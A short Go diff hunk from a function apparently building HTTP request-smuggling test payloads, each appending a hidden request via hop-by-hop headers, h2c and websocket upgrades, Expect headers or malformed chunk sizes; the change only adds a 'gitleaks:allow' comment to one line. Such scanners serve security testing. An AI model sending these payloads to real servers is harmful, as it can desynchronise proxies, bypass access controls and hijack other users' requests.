@@ -54,7 +54,7 @@ func smuggle() map[string]string {
 		"length hop by hop":          post + "Connection: Content-Length\r\n" + whole + "\r\n" + hidden,
 		"encoding hop by hop":        post + "Connection: Transfer-Encoding\r\n" + chunked + "\r\n0\r\n\r\n" + hidden,
 		"upgrade to h2c":             post + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n" + whole + "\r\n" + hidden,
-		"upgrade to websocket":       "GET /api/v1/messages HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n" + hidden,
+		"upgrade to websocket":       "GET /api/v1/messages HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n" + hidden, // gitleaks:allow
 		"expects and goes on":        post + "Expect: 100-continue\r\n" + whole + "\r\n" + hidden,
 		"expects something else":     post + "Expect: 200-maybe\r\n" + whole + "\r\n" + hidden,
 		"chunk size with a sign":     post + chunked + "\r\n+0\r\n\r\n" + hidden,
